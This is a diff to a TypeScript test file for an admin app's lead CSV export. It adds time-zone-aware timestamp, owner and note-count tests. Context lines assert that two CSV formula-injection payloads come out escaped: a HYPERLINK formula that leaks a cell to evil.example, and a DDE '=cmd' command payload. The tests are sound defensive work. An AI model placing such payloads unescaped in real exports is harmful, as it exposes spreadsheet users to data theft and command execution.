@@ -3,7 +3,7 @@ import vm from "node:vm";
 import { sql } from "kysely";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { testDialects } from "../test-support/db";
-import { LEAD_CSV_HEADER } from "./csv";
+import { LEAD_CSV_HEADER, leadCsvHeader } from "./csv";
 import { type AdminTestApp, parseCsv, startAdminApp } from "../test-support/staff";
 
 v8.setFlagsFromString("--expose-gc");
@@ -44,7 +44,7 @@ describe.each(testDialects)("CSV export (%s)", (dialect) => {
   let baseUrl: string;
 
   beforeAll(async () => {
-    t = await startAdminApp(dialect);
+    t = await startAdminApp(dialect, { BUSINESS_TZ: "America/New_York" });
     await t.addUser("exporter@apex.example");
     cookie = await t.signIn("exporter@apex.example");
     await t.app.listen({ port: 0, host: "127.0.0.1" });
@@ -89,7 +89,7 @@ describe.each(testDialects)("CSV export (%s)", (dialect) => {
     expect(response.body.startsWith("\uFEFF")).toBe(true);
 
     const rows = parseCsv(response.body.slice(1));
-    expect(rows[0]).toEqual([...LEAD_CSV_HEADER]);
+    expect(rows[0]).toEqual(leadCsvHeader(t.config.BUSINESS_TZ));
     expect(rows).toHaveLength(2);
     const cell = (name: (typeof LEAD_CSV_HEADER)[number]) => rows[1]![LEAD_CSV_HEADER.indexOf(name)];
     expect(cell("First name")).toBe(`'=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`);
@@ -113,6 +113,100 @@ describe.each(testDialects)("CSV export (%s)", (dialect) => {
       filters: { userType: "job_seeker", source: "Exit Intent Popup" },
       rows: 1,
       complete: true,
+    });
+  });
+
+  const exportRows = async (query: string) => {
+    const response = await t.app.inject({
+      method: "GET",
+      url: `/api/admin/export.csv?${query}`,
+      headers: { cookie },
+    });
+    expect(response.statusCode, response.body).toBe(200);
+    return parseCsv(response.body.slice(1))
+      .slice(1)
+      .map((row) => Object.fromEntries(LEAD_CSV_HEADER.map((name, i) => [name, row[i]])));
+  };
+
+  it("writes the owner, the number of notes and the first response, in the firm's time zone with its offset", async () => {
+    const ria = await t.addUser("ria.owner@apex.example");
+    const worked = await t.addLead({
+      first_name: "Worked",
+      last_name: "Zorander",
+      email: "worked@example.org",
+    });
+    await t.addLead({ first_name: "Untouched", last_name: "Zorander", email: "untouched@example.org" });
+    const post = (path: string, payload: object) =>
+      t.app.inject({
+        method: "POST",
+        url: `/api/admin/leads/${worked.id}/${path}`,
+        headers: { cookie, origin: t.origin },
+        payload,
+      });
+    expect((await post("owner", { ownerId: ria.id })).statusCode).toBe(200);
+    expect((await post("status", { status: "contacted", note: "Left a voicemail" })).statusCode).toBe(200);
+    expect((await post("status", { status: "contacted", note: "She called back" })).statusCode).toBe(200);
+    expect((await post("status", { status: "qualified", note: "" })).statusCode).toBe(200);
+    const history = await t.kdb
+      .selectFrom("lead_status_changes")
+      .select("created_at")
+      .where("lead_id", "=", worked.id)
+      .orderBy("created_at")
+      .execute();
+    expect(history).toHaveLength(3);
+
+    const rows = await exportRows("q=zorander");
+    expect(rows).toHaveLength(2);
+    const workedRow = rows.find((row) => row["First name"] === "Worked");
+    const untouchedRow = rows.find((row) => row["First name"] === "Untouched");
+    expect(workedRow).toMatchObject({
+      "First name": "Worked",
+      Status: "Qualified",
+      Owner: "ria.owner@apex.example",
+      Notes: "2",
+    });
+    const iso = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}-0[45]:00$/;
+    const firstResponse = workedRow!["First response"]!;
+    expect(firstResponse).toMatch(iso);
+    expect(Date.parse(firstResponse)).toBe(Math.floor(Number(history[0]!.created_at) / 1000) * 1000);
+    expect(workedRow!.Received).toMatch(iso);
+    expect(Date.parse(workedRow!.Received!)).toBe(Math.floor(Number(worked.created_at) / 1000) * 1000);
+    expect(untouchedRow).toMatchObject({
+      "First name": "Untouched",
+      Owner: "",
+      Notes: "0",
+      "First response": "",
+    });
+  });
+
+  it("writes each time with the offset in force at that moment, across a daylight-saving change", async () => {
+    // In on Saturday 7 March 2026 at 15:00 (EST); answered on Monday 9 March at 9:00 (EDT, clocks went forward on the 8th).
+    const lead = await t.addLead({
+      first_name: "Springforward",
+      email: "spring@example.org",
+      created_at: Date.UTC(2026, 2, 7, 20, 0, 0),
+      status: "contacted",
+    });
+    const user = await t.addUser("dst@apex.example");
+    await t.kdb
+      .insertInto("lead_status_changes")
+      .values({
+        id: "dst-change-1",
+        lead_id: lead.id,
+        created_at: Date.UTC(2026, 2, 9, 13, 0, 0),
+        from_status: "new",
+        to_status: "contacted",
+        note: "Called on Monday",
+        user_id: user.id,
+        user_email: "dst@apex.example",
+      })
+      .execute();
+    const [row] = await exportRows("q=springforward");
+    expect(row).toMatchObject({
+      Received: "2026-03-07T15:00:00-05:00",
+      "First response": "2026-03-09T09:00:00-04:00",
+      Notes: "1",
+      Owner: "",
     });
   });
 
@@ -165,7 +259,7 @@ describe.each(testDialects)("CSV export (%s)", (dialect) => {
 
     expect(head.startsWith("\uFEFF")).toBe(true);
     const [header, first] = parseCsv(head.slice(1, head.indexOf("\r\n", head.indexOf("\r\n") + 2) + 2));
-    expect(header).toEqual([...LEAD_CSV_HEADER]);
+    expect(header).toEqual(leadCsvHeader(t.config.BUSINESS_TZ));
     expect(first![3]).toBe("First1");
     expect(first![7]).toBe("'=cmd|' /C calc'!A0");
     expect(first![6]).toBe("'+1 555 010 0000");
